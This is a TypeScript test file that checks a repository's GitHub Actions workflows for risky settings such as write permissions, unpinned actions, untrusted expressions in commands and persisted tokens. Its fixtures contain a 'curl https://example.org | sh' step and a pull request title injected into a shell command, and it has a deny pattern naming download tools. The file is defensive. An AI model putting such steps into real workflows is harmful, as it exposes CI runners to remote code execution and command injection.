/** What the public repository's workflows may do: read the code, and run only what is pinned. */
import { readdirSync, readFileSync } from 'node:fs';

import { expect, test } from 'vitest';

const folder = new URL('../../.github/workflows/', import.meta.url);
const workflows = readdirSync(folder).map((name) => ({
  name,
  text: readFileSync(new URL(name, folder), 'utf8'),
}));

/** What stands between `${{` and `}}`. A branch's name, which anybody chooses, is for telling runs apart and for nothing else. */
const expressionsIn = (lines: readonly string[]): string[] =>
  lines
    .filter((line) => !/^ {2}group: [\w-]+\$\{\{ github\.ref \}\}$/.test(line))
    .flatMap((line) => line.match(/(?<=\$\{\{).*?(?=\}\})/g) ?? []);

/** What the workflow itself says, or the machine. */
const ours = /^ (matrix\.\w+|env\.\w+|runner\.os) $/;

/** One line for each thing that a workflow must not have, or has to. */
function faultsOf(text: string): string[] {
  const lines = text.split('\n').filter((line) => !/^\s*#/.test(line));
  const code = lines.join('\n');
  const unpinned = lines.filter(
    (line) =>
      /^\s*(- )?uses:/.test(line) && !/uses: [\w-]+\/[\w/-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line),
  );
  return [
    ...(/^permissions:\n {2}contents: read\n(?! )/m.test(code) ? [] : ['no permissions at the top']),
    ...(/^ +permissions:/m.test(code) ? ['a job has permissions of its own'] : []),
    ...unpinned.map((line) => `not pinned: ${line.trim()}`),
    ...['pull_request_target', 'workflow_run', 'secrets.'].filter((word) => code.includes(word)),
    ...(/\b(curl|wget|npx|Invoke-WebRequest|iwr|pip|docker)\b/.test(code) ? ['fetches a program'] : []),
    ...(/runs-on: \S+-latest|\[[^\]]*-latest/.test(code) ? ['a system that changes by itself'] : []),
    ...(expressionsIn(lines).every((one) => ours.test(one)) ? [] : ['what others write gets into a command']),
    ...(code.match(/runs-on:/g)?.length === code.match(/timeout-minutes:/g)?.length
      ? []
      : ['a job without end']),
    ...(code.match(/actions\/checkout@/g)?.length === code.match(/persist-credentials: false/g)?.length
      ? []
      : ['leaves its token in the clone']),
  ];
}

test.each(workflows)('$name reads only, and runs only what is pinned', ({ text }) => {
  expect(faultsOf(text)).toEqual([]);
});

test('every action has one version', () => {
  const used = workflows.flatMap(({ text }) => text.match(/uses: \S+/g) ?? []);
  const names = new Set(used.map((one) => one.split('@')[0]));
  expect(used.length).toBeGreaterThan(5);
  expect(new Set(used).size).toBe(names.size);
});

test.each([
  'github.ref_name',
  'github.head_ref',
  'github.event.issue.title',
  'github.actor',
  'inputs.version',
  "format('{0}', github.ref)",
])('a command with %s in it is found', (expression) => {
  const clean = workflows.find(({ name }) => name === 'checks.yml')!.text;
  const bad = clean.replace('run: npm ci\n', `run: npm ci \${{ ${expression} }}\n`);
  expect(bad).not.toBe(clean);
  expect(faultsOf(bad)).toEqual(['what others write gets into a command']);
});

test('a workflow that may write, or runs what can change, is found', () => {
  const bad = `
on: pull_request_target
permissions: write-all
jobs:
  a:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - uses: actions/checkout@v5
      - uses: someone/else@08c6903cd8c0fde910a37f88322edcfb5dd907a8
      - run: curl https://example.org | sh
      - run: echo \${{ github.event.pull_request.title }}
`;
  expect(faultsOf(bad)).toEqual([
    'no permissions at the top',
    'a job has permissions of its own',
    'not pinned: - uses: actions/checkout@v5',
    'not pinned: - uses: someone/else@08c6903cd8c0fde910a37f88322edcfb5dd907a8',
    'pull_request_target',
    'fetches a program',
    'a system that changes by itself',
    'what others write gets into a command',
    'a job without end',
    'leaves its token in the clone',
  ]);
});
